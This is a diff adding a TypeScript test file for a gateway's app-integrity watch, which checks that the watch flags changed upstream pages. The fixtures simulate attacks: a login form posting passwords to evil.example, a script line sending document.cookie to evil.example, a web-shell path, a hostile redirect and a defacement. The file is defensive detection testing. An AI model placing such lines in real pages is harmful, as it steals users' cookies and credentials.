@@ -1,0 +1,185 @@
+/** The watch on apps in the whole gate: what passes is read beside the answers, found once, approved, announced, and fetched on a schedule. */
+import { readFileSync } from 'node:fs'
+import http from 'node:http'
+import type { AddressInfo } from 'node:net'
+import path from 'node:path'
+import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib'
+import t, { type Test } from 'tap'
+import { AppChanges } from '../../src/administration/app-changes.ts'
+import type { AppWatch } from '../../src/integrity/app-watch.ts'
+import { type Running, startGateway } from '../fixtures/in-process/gateway.ts'
+
+type Served = (
+  path: string,
+  i: number
+) => {
+  readonly type?: string
+  readonly status?: number
+  readonly body: string
+  readonly headers?: Record<string, string>
+}
+
+const codings: readonly (readonly [string, (text: string) => Buffer])[] = [
+  ['gzip', text => gzipSync(text)],
+  ['br', text => brotliCompressSync(text)],
+  ['deflate', text => deflateSync(text)],
+  ['', text => Buffer.from(text)]
+]
+
+/** An app whose pages a test changes; each answer has another content coding. */
+async function changingApp(t: Test, first: Served) {
+  const app = { serve: first, count: 0 }
+  const server = http.createServer((req, res) => {
+    req.resume()
+    const i = app.count++
+    const { type = 'text/html; charset=utf-8', status = 200, body, headers = {} } = app.serve(req.url ?? '/', i)
+    const [coding, encode] = codings[i % codings.length]!
+    res.writeHead(status, {
+      'content-type': type,
+      ...(coding === '' ? {} : { 'content-encoding': coding }),
+      ...headers
+    })
+    res.end(encode(body))
+  })
+  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
+  t.teardown(() => server.close())
+  return { app, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}` }
+}
+
+const page = (i: number, more = '', action = '/login') =>
+  `<!doctype html><html><head><meta charset=utf-8><script nonce="n${i}x${i * 7}">window.t = ${i}; start("${i * 31}")</script>
+  <script src="/app.${(i * 7919).toString(16).padStart(8, 'a')}.js"></script></head><body><main><form method=post action="${action}"><input name=csrf value="${i}"><input type=password name=p></form>${more}</main></body></html>`
+
+function journal(gate: Running): Record<string, unknown>[] {
+  return readFileSync(path.join(gate.folder, 'journal.jsonl'), 'utf8')
+    .split('\n')
+    .filter(line => line !== '')
+    .map(line => JSON.parse(line))
+    .filter(line => line.kind === 'watch.app')
+}
+
+async function started(t: Test, served: Served, integrity = '{ learn: 0s }', clock = Date.now) {
+  const { app, url } = await changingApp(t, served)
+  const gate = await startGateway(t, {
+    apps: `  - { id: files, url: "http://files.localhost:PORT", upstream: "${url}", rules: [{ access: public }], integrity: ${integrity} }`,
+    clock
+  })
+  const { runtime } = gate.server
+  const watch = () => runtime.integrity!.watchOf('files') as AppWatch
+  const get = (where: string, method = 'GET') =>
+    gate.request(method, `${gate.origin('files')}${where}`, { 'accept-encoding': 'gzip, br, deflate' })
+  /** Asks so often, and waits until the thread has read it. */
+  const visit = async (where: string, times: number, method = 'GET') => {
+    const before = watch().memory.pages
+    for (let i = 0; i < times; i++) await get(where, method)
+    while (method === 'GET' && watch().memory.pages < before + times) await new Promise(setImmediate)
+    await runtime.integrity!.tick()
+    await runtime.journal.flush()
+  }
+  const changes = new AppChanges({ store: runtime.store, clock: gate.server.runtime.clock, record: async () => {} })
+  return { app, gate, watch, visit, changes, runtime }
+}
+
+t.test('a change is found once, approved, and quiet while it is announced', async t => {
+  const { app, gate, visit, changes, watch } = await started(t, (_, i) => ({ body: page(i) }))
+  await visit('/login', 40)
+  t.same(journal(gate), [], 'nonces, values and hashes of builds are nothing new, in any coding')
+
+  app.serve = (_, i) => ({ body: page(i, '', 'https://evil.example/take') })
+  await visit('/login', 5)
+  const [line, ...more] = journal(gate)
+  t.match(line, {
+    app: 'files',
+    outcome: 'alarm',
+    page: '/login',
+    isTold: true,
+    what: 'form https://evil.example with a password'
+  })
+  t.equal(
+    line?.why,
+    "New on /login of the app 'files': a form that asks for a password is sent to https://evil.example."
+  )
+  t.same(more, [], 'once')
+  const [state] = await changes.read(['files'])
+  t.equal(state?.findings.length, 1)
+  t.ok((state?.known.code ?? 0) > 0)
+
+  t.equal(await changes.approve('files', 'nothing'), null, 'an id that is none')
+  t.match(await changes.approve('files', state!.findings[0]!.id), { page: '/login' })
+  while (watch().findings.length > 0) await new Promise(setImmediate)
+  await visit('/login', 5)
+  t.equal(journal(gate).length, 1, 'what was approved belongs to the app')
+
+  await changes.announce('files', 3600, 'an update', 'test')
+  while (watch().changing === null) await new Promise(setImmediate)
+  app.serve = (_, i) => ({ body: page(i, '<script src="https://cdn.example/new.js"></script>') })
+  await visit('/login', 3)
+  await changes.announce('files', 0, 'done', 'test')
+  while (watch().changing !== null) await new Promise(setImmediate)
+  await visit('/login', 3)
+  t.equal(journal(gate).length, 1, 'what was learned in between is known')
+})
+
+t.test('a web shell, and a script file that changes', async t => {
+  const js = 'text/javascript'
+  const { app, gate, visit } = await started(t, (where, i) =>
+    where.endsWith('.js') ? { type: js, body: `var v = ${i}; run(v)` } : { body: page(i) }
+  )
+  await visit('/login', 20)
+  await visit('/app.js', 4)
+  app.serve = (where, i) =>
+    where.startsWith('/uploads/')
+      ? { body: '<pre>uid=0</pre>' }
+      : where.endsWith('.js')
+        ? { type: js, body: 'var v = 1; run(v); fetch("https://evil.example/" + document.cookie)' }
+        : { body: page(i) }
+  await visit('/uploads/x.php?cmd=id', 1)
+  await visit('/app.js', 1)
+  await visit('/take', 1, 'POST')
+  const whys = journal(gate).map(({ why }) => why)
+  t.same(whys, [
+    "New on /uploads/x.php of the app 'files': /uploads/x.php answers with a page.",
+    "New on /app.js of the app 'files': code names https://evil.example; the script file /app.js has other content.",
+    "New on /take of the app 'files': /take accepts POST."
+  ])
+})
+
+t.test('pages that the gate fetches itself', async t => {
+  let now = Date.UTC(2026, 10, 2)
+  const { app, gate, runtime, watch } = await started(
+    t,
+    (where, i) =>
+      where === '/'
+        ? { status: 302, headers: { location: '/login' }, body: '' }
+        : { body: page(i, '<p>a</p><ul><li>b</ul><h1>x</h1><footer>c</footer>') },
+    '{ pages: [/, /login], every: 1m, learn: 1d }',
+    () => now
+  )
+  const check = async (times: number) => {
+    for (let i = 0; i < times; i++) {
+      now += 60_000
+      await runtime.integrity!.check()
+    }
+    await runtime.integrity!.tick()
+    await runtime.journal.flush()
+  }
+  await check(10)
+  t.equal(watch().memory.pages, 20, 'both, of which one is a redirect')
+  now += 86_400_000
+  await check(2)
+  t.same(journal(gate), [])
+  app.serve = where =>
+    where === '/'
+      ? { status: 302, headers: { location: 'https://evil.example/' }, body: '' }
+      : {
+          body: '<html><body><center><marquee>owned</marquee><img src=x><b>by</b><i>us</i><font>x</font></center></body></html>'
+        }
+  await check(1)
+  t.same(
+    journal(gate).map(({ page, what }) => [page, what]),
+    [
+      ['/', 'redirect https://evil.example'],
+      ['/login', 'structure of /login']
+    ]
+  )
+})
